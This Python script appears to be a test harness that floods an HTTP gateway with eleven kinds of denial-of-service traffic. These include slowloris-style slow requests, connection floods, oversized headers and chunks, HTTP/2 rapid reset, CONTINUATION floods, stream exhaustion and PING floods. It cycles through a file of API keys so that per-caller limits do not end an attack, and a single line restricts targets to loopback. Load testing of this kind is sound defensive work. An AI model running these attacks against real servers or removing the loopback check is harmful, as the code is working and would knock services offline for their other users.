#!/usr/bin/env python3
"""One attacker: `attackers.py KIND HOST PORT KEYS SECONDS`. Each keeps to a pace, so that what it costs the
gateway's other clients is the gateway's doing, not the scheduler's. KEYS is a file of keys, so many that no limit of a
caller ends an attack before it hurts. Only loopback is attacked."""
import itertools
import resource
import socket
import sys
import time
from collections import deque

CHUNKED = "transfer-encoding: chunked\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def head(keys, more):
    """Of a request with the next key."""
    return f"POST /api/item HTTP/1.1\r\nhost: api.example\r\nx-api-key: {next(keys)}\r\n{more}\r\n".encode()


def connect(to, source="127.0.0.2"):
    connection = socket.socket()
    connection.bind((source, 0))
    connection.settimeout(1)
    connection.connect(to)
    connection.setblocking(False)
    return connection


def send(connection, data):
    """False when the gateway has ended the connection. What it does not take is not sent."""
    try:
        try:
            while connection.recv(65536):
                pass
            return False
        except BlockingIOError:
            pass
        try:
            connection.send(data)
        except BlockingIOError:
            pass
        return True
    except OSError:
        return False


def paced(per_second, end):
    """As often as that, until the end."""
    start = time.monotonic()
    for at in itertools.count():
        wait = start + at / per_second - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        if time.monotonic() >= end:
            return
        yield at


def drip(to, end, begin, drop):
    """200 connections of which each sends a few bytes a second, and starts again when it is closed."""
    connections = [None] * 200
    for at in paced(400, end):
        slot = at % len(connections)
        if connections[slot] is None or not send(connections[slot], drop):
            connections[slot] = connect(to)
            send(connections[slot], begin())


def slow_heads(to, keys, end):
    drip(to, end, lambda: b"GET /api/item HTTP/1.1\r\nhost: api.example\r\n", b"x-a: b\r\n")


def slow_bodies(to, keys, end):
    drip(to, end, lambda: head(keys, "content-length: 100000\r\n"), b"x")


def connections(to, keys, end):
    """1000 new connections a second from 8 addresses, of which as many are held as the gateway leaves open."""
    held = deque()
    for at in paced(1000, end):
        try:
            held.append(connect(to, f"127.0.0.{2 + at % 8}"))
        except OSError:
            continue
        if len(held) > 4000:
            held.popleft().close()


def repeated(to, end, per_second, compose):
    """A request on a new connection each time, which is read until the gateway ends it or a quarter second is over."""
    open_ones = deque()
    for _ in paced(per_second, end):
        connection = connect(to)
        rest = memoryview(compose())
        deadline = time.monotonic() + 0.25
        while rest and time.monotonic() < deadline:
            try:
                rest = rest[connection.send(rest[:262144]):]
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                break
        open_ones.append(connection)
        if len(open_ones) > 50:
            open_ones.popleft().close()


def huge_heads(to, keys, end):
    repeated(to, end, 100, lambda: head(keys, "x-a: " + "a" * 65536 + "\r\n"))


def huge_fields(to, keys, end):
    repeated(to, end, 100, lambda: head(keys, "x-a: b\r\n" * 5000))


def huge_chunks(to, keys, end):
    chunk = b"fffffffffffffff0;" + b"x" * 4096 + b"\r\n" + b"y" * 4096
    repeated(to, end, 200, lambda: head(keys, CHUNKED) + chunk)


def huge_bodies(to, keys, end):
    content = (b"10000\r\n" + b"x" * 65536 + b"\r\n") * 168
    repeated(to, end, 4, lambda: head(keys, CHUNKED) + content)


def frame(kind, flags, stream, content=b""):
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def block(keys):
    """POST http /api/item, with the next key."""
    literal = lambda text: bytes([len(text)]) + text.encode()
    return (b"\x83\x86\x04" + literal("/api/item") + b"\x01" + literal("api.example")
            + b"\x00" + literal("x-api-key") + literal(next(keys)))


def http2(to, end, per_second, frames, start=lambda: b"", several=1):
    """Frames on a few connections in turn; one that the gateway ends is opened again."""
    slots = [None] * several
    for at in paced(per_second, end):
        slot = at % several
        if slots[slot] is None or not send(slots[slot][0], frames(next(slots[slot][1]))):
            try:
                slots[slot] = connect(to), itertools.count(1, 2)
            except OSError:
                slots[slot] = None
                continue
            send(slots[slot][0], PREFACE + frame(SETTINGS, 0, 0) + start())


def h2_reset(to, keys, end):
    """Requests that are taken back at once, 2000 a second."""
    def ten(stream):
        numbers = range(10 * stream - 9, 10 * stream + 11, 2)
        return b"".join(frame(HEADERS, END_HEADERS, number, block(keys))
                        + frame(RST_STREAM, 0, number, b"\0\0\0\x08") for number in numbers)
    http2(to, end, 200, ten)


def h2_continuation(to, keys, end):
    """Heads without an end: 1000 CONTINUATION frames of 1 KiB a second."""
    more = frame(CONTINUATION, 0, 1, (b"\x00\x03x-a\x01b" * 200)[:1024])
    http2(to, end, 1000, lambda stream: more, lambda: frame(HEADERS, 0, 1, block(keys)))


def h2_streams(to, keys, end):
    """Requests whose content never comes, on 8 connections: as many streams as are allowed, and more."""
    http2(to, end, 1000, lambda stream: frame(HEADERS, END_HEADERS, stream, block(keys)), several=8)


def h2_pings(to, keys, end):
    """2000 PING and 2000 SETTINGS a second, whose answers nobody reads."""
    flood = (frame(PING, 0, 0, b"\0" * 8) + frame(SETTINGS, 0, 0)) * 20
    http2(to, end, 100, lambda stream: flood)


KINDS = {one.__name__: one for one in (
    slow_heads, slow_bodies, connections, huge_heads, huge_fields, huge_chunks, huge_bodies, h2_reset,
    h2_continuation, h2_streams, h2_pings)}

if __name__ == "__main__":
    name, host, port, file, seconds = sys.argv[1:]
    if not host.startswith("127."):
        sys.exit("only loopback is attacked")
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    known = itertools.cycle(open(file).read().split())
    KINDS[name]((host, int(port)), known, time.monotonic() + float(seconds))
